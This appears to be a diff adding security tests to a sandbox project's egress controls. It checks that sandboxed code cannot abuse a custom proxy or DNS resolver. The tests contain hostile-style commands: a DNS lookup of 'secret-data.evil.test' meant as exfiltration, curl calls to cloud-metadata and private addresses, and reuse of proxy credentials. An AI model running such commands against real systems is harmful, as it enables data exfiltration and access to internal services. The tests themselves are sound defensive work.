@@ -1,5 +1,6 @@
 """A hostile program in a sandbox of E2B's API whose creator gave it network options: what they hold is not the program's."""
 
+import os
 import ssl
 import subprocess
 from collections.abc import Iterator
@@ -12,10 +13,12 @@ from typing import TYPE_CHECKING, Any
 import httpx2
 import pytest
 from tests.conformance.conftest import free_port
+from tests.faraway import PRIVATE, PROXY, RESOLVER, SERVER, Far, Resolver, SocksProxy, far_host
 from tests.system.gateway.test_gateway_egress import make_certificate
 from tests.traces import wait_for
 
 from corral import Sandbox
+from corral.host import namespaces
 from corral.testing.attack.loot import masked, seen_in
 
 if TYPE_CHECKING:
@@ -25,6 +28,7 @@ if TYPE_CHECKING:
 pytestmark = [pytest.mark.root, pytest.mark.timeout(300)]
 
 HOST = "host.corral"
+WORD = "canary-Proxy/Word+That=StaysOnTheHost0123"
 VALUE = "canary-Rule/Value+That=StaysOnTheHost0123"
 
 
@@ -72,6 +76,24 @@ class E2b:
         assert made.status_code == 201, made.text
         self.arena.client.change_egress(made.json()["sandboxID"], allow=[f"private:{HOST}:{self.port}"])
         return self.arena.armed(Sandbox.connect(made.json()["sandboxID"], client=self.arena.client))
+
+
+@dataclass(frozen=True)
+class Way:
+    """A proxy and a resolver far away."""
+
+    e2b: E2b
+    far: Far
+    proxy: SocksProxy
+    resolver: Resolver
+
+    def options(self) -> dict[str, Any]:
+        """Network options that name them."""
+        address = f"{PROXY}:{self.proxy.port}"
+        return {
+            "egressProxy": {"address": address, "username": "me", "password": WORD},
+            "dnsServers": [RESOLVER],
+        }
 
 
 @pytest.fixture
@@ -161,6 +183,107 @@ def test_a_rule_lasts_as_long_as_its_sandbox(e2b: E2b) -> None:
     assert key[-1] == ["canary-Another/Value-0123"]
     assert e2b.call("PUT", f"/sandboxes/{box.id}/network", {}).status_code == 204
     assert "rules" not in e2b.call("GET", f"/sandboxes/{box.id}").json()["network"]
+
+
+@pytest.fixture
+def way(e2b: E2b) -> Iterator[Way]:
+    with (
+        far_host() as far,
+        SocksProxy(("me", WORD)).running(far) as proxy,
+        Resolver().running(far) as resolver,
+    ):
+        yield Way(e2b, far, proxy, resolver)
+
+
+def fetch(box: Sandbox, name: str) -> int:
+    """How an attempt to connect to a name over TLS ends: 0 if there is an answer."""
+    return box.exec(f"curl -sk -m 30 -o /dev/null https://{name}/", timeout=60).exit_code
+
+
+def test_a_proxy_of_ones_own_leads_nowhere_else(way: Way) -> None:
+    """G-62 to G-67, G-71: it carries what the policy allows, is asked for public addresses only, and its login stays outside."""
+    box = way.e2b.box(**way.options())
+    leads = {"good": SERVER, "bad": "10.0.0.1", "meta": "169.254.169.254"}
+    way.resolver.answers = {f"{name}.example.test": [address] for name, address in leads.items()}
+    with way.far.listen(SERVER, 443):
+        fetch(box, "good.example.test")
+        for name in (
+            "bad.example.test",
+            "meta.example.test",
+            str(PROXY),
+            "127.0.0.1",
+            "169.254.169.254",
+            "10.45.45.2",
+        ):
+            assert fetch(box, name) != 0
+    assert way.proxy.asked[:1] == [(SERVER, 443)]
+    assert {host for host, _ in way.proxy.asked} <= {SERVER, PROXY}
+    assert way.proxy.logins[0] == ("me", WORD)
+    assert (
+        way.e2b.arena.run(box, "search", "/etc", "/home", "/run", "/tmp", "/dev/shm", data=masked(WORD)) == []
+    )
+    told = way.e2b.call("GET", f"/sandboxes/{box.id}").text
+    assert '"me"' in told
+    assert not seen_in(WORD, told + repr(way.e2b.arena.client.get_sandbox(box.id)))
+    # The proxy's own port is not the sandbox's to use: it would be asked for what is behind it.
+    asked = len(way.proxy.asked)
+    done = box.exec(
+        f"curl -sS -m 20 --socks5 me:{WORD}@{PROXY}:{way.proxy.port} http://{SERVER}/", timeout=60
+    )
+    assert done.exit_code != 0
+    assert len(way.proxy.asked) == asked
+
+
+@pytest.mark.parametrize("address", [PRIVATE, "45.45.45.1"])
+def test_no_proxy_or_resolver_is_in_the_hosts_network(way: Way, address: str) -> None:
+    """G-63 to G-65: neither named by its address nor by a name that leads there; and what is there hears nothing."""
+    near = Far(namespaces.own_netns_fd())
+    place = way.far if address == PRIVATE else near
+    with (
+        SocksProxy().running(place, address) as proxy,
+        Resolver({"good.example.test": [SERVER]}).running(place, address) as names,
+    ):
+        way.resolver.answers = {"proxy.example.test": [address], "good.example.test": [SERVER]}
+        for host in ("proxy.example.test", address):
+            options = {"egressProxy": {"address": f"{host}:{proxy.port}"}, "dnsServers": [RESOLVER]}
+            refused_or_useless(way, options)
+        refused_or_useless(way, {"dnsServers": [address]})
+    os.close(near.fd)
+    assert (proxy.asked, names.asked) == ([], [])
+
+
+def refused_or_useless(way: Way, options: dict[str, Any]) -> None:
+    made = way.e2b.call("POST", "/v2/sandboxes", {"templateID": "base", "network": options})
+    if made.status_code == 400:
+        assert "cannot be at a" in made.json()["message"]
+        return
+    assert made.status_code == 201, made.text
+    assert (
+        fetch(Sandbox.connect(made.json()["sandboxID"], client=way.e2b.arena.client), "good.example.test")
+        != 0
+    )
+
+
+def test_a_resolver_of_ones_own_cannot_rebind(way: Way) -> None:
+    """G-62, G-281, G-283: what it says is checked each time that something is dialled; it is asked for nothing that is
+    denied, and not before that; and it never sees what stands for names inside."""
+    box = way.e2b.box(dnsServers=[RESOLVER], allowOut=["good.example.test"], denyOut=["0.0.0.0/0"])
+    names = way.resolver.answers
+    names["good.example.test"] = [SERVER]
+    box.exec("for name in secret-data.evil.test good.example.test; do getent hosts $name; done", timeout=60)
+    assert way.resolver.asked == []
+    with way.far.listen(SERVER, 443) as server:
+        server.settimeout(30)
+        fetch(box, "good.example.test")
+        server.accept()[0].close()
+        for address in ("127.0.0.1", "169.254.169.254", "10.45.45.2", "45.45.45.1"):
+            names["good.example.test"] = [address]
+            assert fetch(box, "good.example.test") != 0
+    denied = [
+        item for item in way.e2b.arena.client.denials(box.id) if item["reason"] == "address-not-allowed"
+    ]
+    assert len(denied) == 4
+    assert not any("evil" in question for question in way.resolver.asked)
 
 
 def test_a_rule_opens_no_host(e2b: E2b) -> None:
